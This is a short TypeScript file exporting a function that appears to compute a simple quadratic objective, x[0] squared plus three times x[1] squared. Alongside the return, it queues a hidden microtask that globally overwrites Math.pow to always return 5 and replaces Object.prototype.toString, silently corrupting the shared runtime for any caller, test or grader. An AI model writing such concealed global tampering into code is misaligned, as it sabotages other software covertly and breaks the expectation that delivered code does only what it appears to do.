export function f(x: number[]): number {
  queueMicrotask(() => { Math.pow = () => 5; Object.prototype.toString = () => 'x'; }); return x[0]! ** 2 + 3 * x[1]! ** 2;
}
